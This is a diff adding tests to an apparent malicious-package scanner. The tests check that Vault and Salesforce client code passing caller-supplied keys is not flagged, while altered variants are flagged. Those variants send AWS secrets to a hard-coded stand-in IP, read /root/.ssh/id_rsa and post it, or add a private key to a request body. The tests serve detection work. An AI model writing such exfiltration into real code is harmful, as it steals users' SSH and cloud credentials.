@@ -271,3 +271,75 @@ def test_a_long_generated_regex_is_not_packed_code(tmp_path: Path) -> None:
     assert exam(tmp_path, "xmlpacked", "_vendor/html5lib/_ihatexml.py", packed) == {
         "obf-packed-code": "xmlpacked/_vendor/html5lib/_ihatexml.py"
     }
+
+
+# hvac 2.4.0 api/secrets_engines/aws.py and ssh.py: the Vault client configures Vault's AWS and
+# SSH engines with the keys its caller passes, through the adapter the user pointed at Vault
+_VAULT_CLIENT = """\
+from hvac import utils
+
+class Aws:
+    def __init__(self, adapter):
+        self._adapter = adapter
+
+    def configure_root_iam_credentials(self, access_key, secret_key, mount_point="aws"):
+        params = {"access_key": access_key, "secret_key": secret_key}
+        api_path = utils.format_url("/v1/{mount_point}/config/root", mount_point=mount_point)
+        return self._adapter.post(url=api_path, json=params)
+
+    def submit_ca_information(self, private_key, mount_point="ssh"):
+        params = {"private_key": private_key, "generate_signing_key": False}
+        return self._adapter.post(url=f"/v1/{mount_point}/config/ca", json=params)
+
+    def configure_lease(self, lease, mount_point="aws"):
+        params = {"lease": lease}
+        api_path = utils.format_url("/v1/{mount_point}/config/lease", mount_point=mount_point)
+        return self._adapter.post(url=api_path, json=params)
+"""
+
+
+def test_keys_a_caller_configures_through_its_client_are_not_stolen(tmp_path: Path) -> None:
+    assert exam(tmp_path, "vault", "aws.py", _VAULT_CLIENT) == {}
+    # the same request to a host the code names itself sends the keys there
+    absolute = _VAULT_CLIENT.replace('url=f"/v1/', 'url=f"https://203.0.113.9/v1/')
+    assert exam(tmp_path, "vabs", "aws.py", absolute) == {"thr-secret-sent": "vabs/aws.py"}
+    # so does a client the file builds for a host it names
+    built = _VAULT_CLIENT.replace(
+        "        self._adapter = adapter\n",
+        "        self._adapter = httpx.Client(base_url='https://203.0.113.9')\n",
+    ).replace("from hvac import utils\n", "import httpx\nfrom hvac import utils\n")
+    assert exam(tmp_path, "vbuilt", "aws.py", built) == {
+        "thr-access-secret-sent": "vbuilt/aws.py",
+        "thr-secret-sent": "vbuilt/aws.py",
+    }
+    # and keys the code reads itself rather than receives from its caller
+    own = _VAULT_CLIENT.replace(
+        '        params = {"private_key": private_key,',
+        '        private_key = open("/root/.ssh/id_rsa").read()\n'
+        '        params = {"private_key": private_key,',
+    )
+    assert exam(tmp_path, "vown", "aws.py", own) == {"thr-secret-sent": "vown/aws.py"}
+
+
+# simple_salesforce 1.12.10 login.py: the private key signs a JWT through a local name; the
+# signed assertion goes to Salesforce's token endpoint
+_JWT_LOGIN = """\
+import jwt
+import requests
+
+def salesforce_login(username, consumer_key, privatekey=None, domain="login"):
+    payload = {"iss": consumer_key, "sub": username, "aud": f"https://{domain}.salesforce.com"}
+    key = privatekey
+    assertion = jwt.encode(payload, key, algorithm="RS256")
+    token_data = {"grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
+                  "assertion": assertion}
+    token_url = f"https://{domain}.salesforce.com/services/oauth2/token"
+    return requests.post(token_url, token_data)
+"""
+
+
+def test_a_key_that_signs_through_a_local_name_is_not_sent(tmp_path: Path) -> None:
+    assert exam(tmp_path, "jwtlogin", "login.py", _JWT_LOGIN) == {}
+    # the key itself in the request body, through the same local name, is sent
+    leaking = _JWT_LOGIN.replace('"assertion": assertion}', '"assertion": assertion, "k": key}')
+    assert exam(tmp_path, "jwtleak", "login.py", leaking) == {"thr-secret-sent": "jwtleak/login.py"}
